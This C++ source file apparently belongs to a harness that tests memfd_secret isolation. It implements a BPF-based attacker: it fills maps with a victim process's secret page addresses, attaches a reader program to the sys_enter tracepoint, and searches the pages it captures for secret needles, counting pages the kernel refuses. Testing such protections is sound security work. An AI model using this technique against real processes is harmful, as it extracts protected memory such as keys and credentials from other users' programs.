#include <signal.h>
#include <unistd.h>

#include <cerrno>
#include <ctime>
#include <vector>

#include "attacks.h"
#include "bpf_program.h"
#include "search.h"

namespace memfd_secret::attacker {
namespace {

// 16 MiB of secret memory; more would be a map larger than is worth waiting for.
constexpr size_t kMostPages = 4096;
constexpr int kWaitMilliseconds = 20000;
constexpr int kPollMilliseconds = 10;

class Descriptor {
 public:
  explicit Descriptor(int fd) : fd_(fd) {}
  Descriptor(const Descriptor&) = delete;
  Descriptor& operator=(const Descriptor&) = delete;
  ~Descriptor() {
    if (fd_ >= 0) close(fd_);
  }
  // A negative errno where there is none.
  [[nodiscard]] int number() const { return fd_; }

 private:
  int fd_;
};

std::vector<uint64_t> PagesOf(const std::vector<Range>& ranges) {
  std::vector<uint64_t> pages;
  for (const Range& range : ranges) {
    constexpr uint64_t kPage = sizeof(BpfPage::bytes);
    for (uint64_t at = range.start / kPage * kPage; at < range.end; at += kPage)
      pages.push_back(at);
  }
  return pages;
}

// The victim makes system calls meanwhile: its owner sees to that.
bool WaitForCursor(int cursor, uint64_t wanted, uint64_t* reached) {
  for (int waited = 0; waited < kWaitMilliseconds; waited += kPollMilliseconds) {
    if (LookUpElement(cursor, 0, reached) != 0) return false;
    if (*reached >= wanted) return true;
    const timespec pause = {0, kPollMilliseconds * 1000000L};
    nanosleep(&pause, nullptr);
  }
  return false;
}

bool SearchPages(int map, const std::vector<uint64_t>& pages, const Request& request,
                 Result* result) {
  Searcher searcher(request.needles, result);
  BpfPage page;
  uint64_t expected = 0;
  for (uint32_t i = 0; i < pages.size(); i += 1) {
    const int error = LookUpElement(map, i, &page);
    if (error != 0) return result->Fail("bpf, lookup", -error);
    if (page.outcome == kNotRead) return result->Fail("the BPF program did not read a page", 0);
    result->secret_pages += 1;
    if (page.outcome != 0) {
      result->RefuseSecretPage(static_cast<int>(-page.outcome));
      continue;
    }
    if (pages[i] != expected) searcher.Restart(pages[i], "read by BPF", true);
    expected = pages[i] + sizeof page.bytes;
    searcher.Feed(page.bytes, sizeof page.bytes);
    result->bytes_read += sizeof page.bytes;
  }
  return true;
}

}  // namespace

bool AttackBpf(const Request& request, Result* result) {
  const std::vector<uint64_t> pages = PagesOf(request.ranges);
  if (pages.size() > kMostPages) return result->Fail("more pages than the program reads", E2BIG);
  if (kill(request.pid, 0) != 0) return result->Fail("the victim is gone", errno);
  const Descriptor cursor(CreateArray(sizeof(uint64_t), 1));
  if (cursor.number() < 0) return result->Fail("bpf, a map", -cursor.number());
  const Descriptor map(CreateArray(sizeof(BpfPage), static_cast<uint32_t>(pages.size())));
  if (map.number() < 0) return result->Fail("bpf, a map", -map.number());
  BpfPage page = {};
  page.outcome = kNotRead;
  for (uint32_t i = 0; i < pages.size(); i += 1) {
    page.address = pages[i];
    const int error = UpdateElement(map.number(), i, &page);
    if (error != 0) return result->Fail("bpf, an element", -error);
  }
  const Descriptor program(LoadReader(request.pid, cursor.number(), map.number()));
  if (program.number() < 0) return result->Fail("bpf, the program", -program.number());
  uint64_t reached = 0;
  {
    const Descriptor attached(AttachToSystemCalls(program.number()));
    if (attached.number() < 0) {
      return result->Fail("bpf, the tracepoint sys_enter", -attached.number());
    }
    if (!WaitForCursor(cursor.number(), pages.size(), &reached)) {
      return result->Fail(reached == 0 ? "the BPF program did not run in the victim"
                                       : "the victim made too few system calls for the BPF program",
                          ETIMEDOUT);
    }
  }
  return SearchPages(map.number(), pages, request, result);
}

}  // namespace memfd_secret::attacker
